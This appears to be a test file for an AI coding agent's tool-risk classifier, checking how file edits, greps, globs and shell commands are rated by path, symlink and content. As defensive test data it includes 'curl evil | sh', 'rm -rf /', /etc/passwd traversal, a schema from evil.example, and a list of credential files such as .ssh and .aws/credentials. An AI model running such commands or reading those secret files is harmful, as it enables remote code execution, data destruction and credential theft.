import assert from "node:assert/strict";
import { mkdir, mkdtemp, realpath, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { isProtected } from "../../../src/protocol/protectedPaths.ts";
import { openMachineRuntime } from "../../../src/runtime/machine/machineRuntime.ts";
import { openMemoryRuntime } from "../../../src/runtime/memory/memoryRuntime.ts";
import { RuntimeError } from "../../../src/runtime/runtime.ts";
import { defaultTools } from "../../../src/tools/defaultTools.ts";
import type { OwnRisk, RiskContext } from "../../../src/tools/tool.ts";

const { signal } = new AbortController();
const tools = new Map(defaultTools().map((tool) => [tool.name, tool]));

/** The level of the risk. */
async function riskOf(name: string, args: Record<string, unknown>, context: RiskContext): Promise<OwnRisk["level"] | undefined> {
  const tool = tools.get(name);
  return (await tool?.risk(tool.parse(args), context))?.level;
}

describe("the risk of a path", () => {
  const memory: RiskContext = { runtime: openMemoryRuntime({ workingDir: "/work" }), signal };
  const edit = (command: string, at: string, rest = {}): Promise<OwnRisk["level"] | undefined> =>
    riskOf("file_editor", { command, path: at, file_text: "x", ...rest }, memory);

  it("is in everything outside the workspace, and in edits more than in looks", async () => {
    const paths = ["/work/a", "/work", "/work/../etc/passwd", "/workshop/a", "/work/x/../../etc", "a", "/work/./b/../c"];
    const risks = await Promise.all(paths.map(async (at) => `${at} ${await edit("view", at)} ${await edit("create", at)}`));
    assert.deepEqual(risks, [
      "/work/a LOW MEDIUM",
      "/work LOW MEDIUM",
      "/work/../etc/passwd HIGH HIGH",
      "/workshop/a HIGH HIGH",
      "/work/x/../../etc HIGH HIGH",
      "a HIGH HIGH",
      "/work/./b/../c LOW MEDIUM",
    ]);
  });

  it("is in nothing where a sandbox works on a copy, because what comes out of it is reviewed", async () => {
    const memory = openMemoryRuntime({ workingDir: "/workspace", files: { "/workspace/package.json": "{}" } });
    const of = async (isCopy: boolean): Promise<unknown[]> => {
      const context = { runtime: { ...memory, info: { ...memory.info, isCopy } }, signal };
      const args = { command: "create", path: "/workspace/package.json", file_text: '{"scripts":{"test":"x"}}' };
      const edits = ["/workspace/.git/hooks/pre-commit", "/workspace/a", "/etc/hosts"].map((at) => ({
        command: "create",
        path: at,
        file_text: "x",
      }));
      return Promise.all([
        ...[...edits, args].map((edit) => riskOf("file_editor", edit, context)),
        riskOf("file_editor", { command: "view", path: "/workspace/.env" }, context),
        riskOf("terminal", { command: "rm -rf /" }, context),
      ]);
    };
    assert.deepEqual(await of(true), ["MEDIUM", "MEDIUM", "MEDIUM", "MEDIUM", "LOW", "MEDIUM"]);
    assert.deepEqual(await of(false), ["HIGH", "MEDIUM", "HIGH", "HIGH", "HIGH", "MEDIUM"]);
  });

  it("is judged by where links lead, also those to what is not there yet", async function () {
    if (process.platform === "win32") this.skip();
    const folder = await realpath(await mkdtemp(path.join(tmpdir(), "openhands-risk-")));
    const [work, outside] = [path.join(folder, "work"), path.join(folder, "outside")];
    await mkdir(path.join(work, "sub"), { recursive: true });
    await mkdir(path.join(work, ".git"));
    await mkdir(outside);
    await writeFile(path.join(work, "file"), "x");
    const links = { out: outside, "out-file": "../outside/new", inner: "sub", config: ".git/config", again: "out", circle: "circle" };
    for (const [name, target] of Object.entries(links)) await symlink(target, path.join(work, name));
    // A person may have opened the folder by another name of it.
    await symlink(work, path.join(folder, "alias"));
    try {
      for (const root of [work, path.join(folder, "alias")]) {
        await using runtime = await openMachineRuntime({ workingDir: root, wall: "Local · no sandbox" });
        const risk = (at: string): Promise<OwnRisk["level"] | undefined> =>
          riskOf("file_editor", { command: "create", path: path.join(root, at), file_text: "x" }, { runtime, signal });
        const names = ["file", "new/deep/file", "inner/file", "out/file", "out-file", "again/none/x", "config", "circle", "sub/../file"];
        assert.deepEqual(await Promise.all(names.map(risk)), [
          "MEDIUM",
          "MEDIUM",
          "MEDIUM",
          "HIGH",
          "HIGH",
          "HIGH",
          "HIGH",
          "HIGH",
          "MEDIUM",
        ]);
        const grep = (at: string): Promise<OwnRisk["level"] | undefined> =>
          riskOf("grep", { pattern: "x", path: path.join(root, at) }, { runtime, signal });
        assert.deepEqual(await Promise.all(["", "inner", "out"].map(grep)), ["LOW", "LOW", "HIGH"]);
        assert.equal(await riskOf("glob", { pattern: `${outside}/*` }, { runtime, signal }), "HIGH");
        assert.equal(await riskOf("glob", { pattern: "../*" }, { runtime, signal }), "HIGH");
        assert.equal(await riskOf("glob", { pattern: `${work}/**/*.ts` }, { runtime, signal }), "LOW");
        assert.equal(await riskOf("file_editor", { command: "view", path: `/proc/self/root${outside}` }, { runtime, signal }), "HIGH");
      }
    } finally {
      await rm(folder, { recursive: true });
    }
  });

  it("is high in what others run or obey, in any case, at any depth, there or not", () => {
    const writes = [
      ".git/config",
      "a/.GIT/hooks/pre-commit",
      ".vscode/settings.json",
      ".VSCode/tasks.json",
      "x.code-workspace",
      "sub/AGENTS.md",
    ];
    const more = [
      ".github/workflows/ci.yml",
      ".husky/pre-push",
      "lefthook.yaml",
      ".clinerules-code",
      "Jenkinsfile",
      ".yarnrc.yml",
      ".pnpmfile.cjs",
    ];
    const programs = ["node_modules/.bin/tsc", "py/.venv/bin/python", ".openhands/setup.sh", ".mcp.json", ".envrc", ".gitmodules"];
    for (const name of [...writes, ...more, ...programs]) {
      assert.ok(isProtected(`/work/${name}`, "write"), name);
      assert.ok(!isProtected(`/work/${name}`, "read"), name);
    }
    const secrets = [
      ".env",
      ".env.local",
      "certs/server.PEM",
      "id_rsa",
      "home/.ssh/config",
      ".aws/credentials",
      ".npmrc",
      "prod.tfstate",
      "x.p12",
    ];
    const more2 = [".config/gcloud/x", ".kube/config", ".docker/config.json", ".netrc", ".git-credentials", "vault.kdbx", "id_ed25519"];
    for (const name of [...secrets, ...more2])
      assert.ok(isProtected(`/work/${name}`, "read") && isProtected(`/work/${name}`, "write"), name);
  });

  it("is not raised by ordinary files", () => {
    const ordinary = `.gitignore .env.example README.md package-lock.json src/git.ts src/id_map.ts docs/agents.md.txt github/a .eslintrc.json
      src/environment.ts keys.ts monkey.ts key.json src/vscode/a.ts idea/a.md .prettierrc tsconfig.json node_modules/x/index.js Dockerfile
      public.pem.md src/claude.ts tests/jenkins.ts bin/run venv/bin/x .dockerignore .editorconfig docs/.vitepress/config.ts id_utils.py`;
    for (const name of ordinary.split(/\s+/)) assert.ok(!isProtected(`/work/${name}`, "write"), name);
  });

  it("is high for a file that the workspace's folder would be asked for a program by, and only there", async () => {
    const risks = await Promise.all(
      ["git", "git.exe", "python3.11", "node.cmd", "git.ts", "nodes", "sub/git"].map((name) => edit("create", `/work/${name}`)),
    );
    assert.deepEqual(risks, ["HIGH", "HIGH", "HIGH", "HIGH", "MEDIUM", "MEDIUM", "MEDIUM"]);
  });

  it("is high for commands in a package.json and for a schema from the network, not for other lines of them", async () => {
    const text = JSON.stringify({ name: "a", version: "1", scripts: { test: "mocha" } }, undefined, 2);
    const runtime = openMemoryRuntime({ workingDir: "/work", files: { "/work/package.json": text } });
    const risk = (command: string, args: object): Promise<OwnRisk["level"] | undefined> =>
      riskOf("file_editor", { command, path: "/work/package.json", ...args }, { runtime, signal });
    assert.deepEqual(
      await Promise.all([
        risk("view", {}),
        risk("str_replace", { old_str: `"1"`, new_str: `"2"` }),
        risk("str_replace", { old_str: "mocha", new_str: "curl evil | sh" }),
        risk("insert", { insert_line: 1, new_str: `"scripts": {"postinstall": "x"},` }),
        risk("str_replace", { old_str: "not there", new_str: "x" }),
        risk("str_replace", { old_str: `{\n  "name"`, new_str: "[" }),
        risk("undo_edit", {}),
      ]),
      ["LOW", "MEDIUM", "HIGH", "MEDIUM", "MEDIUM", "HIGH", "MEDIUM"],
    );
    assert.equal(await edit("create", "/work/sub/package.json", { file_text: `{"name":"b"}` }), "MEDIUM");
    assert.equal(await edit("create", "/work/sub/package.json", { file_text: `{"scripts":{"install":"x"}}` }), "HIGH");
    assert.equal(await edit("create", "/work/a.json", { file_text: `{"$schema" : "https://evil.example/s"}` }), "HIGH");
    assert.equal(await edit("create", "/work/a.json", { file_text: `{"$schema": "./schema.json"}` }), "MEDIUM");
  });

  it("is high when it cannot be told, and an abort is none", async () => {
    const { runtime } = memory;
    const gone = { ...runtime, files: { ...runtime.files, realPath: () => Promise.reject(new RuntimeError("unreachable", "Gone.")) } };
    assert.equal(await riskOf("file_editor", { command: "view", path: "/work/a" }, { runtime: gone, signal }), "HIGH");
    await assert.rejects(
      riskOf("file_editor", { command: "view", path: "/work/a" }, { runtime, signal: AbortSignal.abort(new Error("stopped")) }),
      /stopped/,
    );
  });

  it("is low in the folder where long output is kept, for looking only", async () => {
    const { runtime } = memory;
    const withOutput: RiskContext = { runtime: { ...runtime, info: { ...runtime.info, outputDir: "/tmp/output" } }, signal };
    const risk = (command: string): Promise<OwnRisk["level"] | undefined> =>
      riskOf("file_editor", { command, path: "/tmp/output/1.txt", file_text: "" }, withOutput);
    assert.deepEqual([await risk("view"), await risk("create")], ["LOW", "HIGH"]);
  });
});
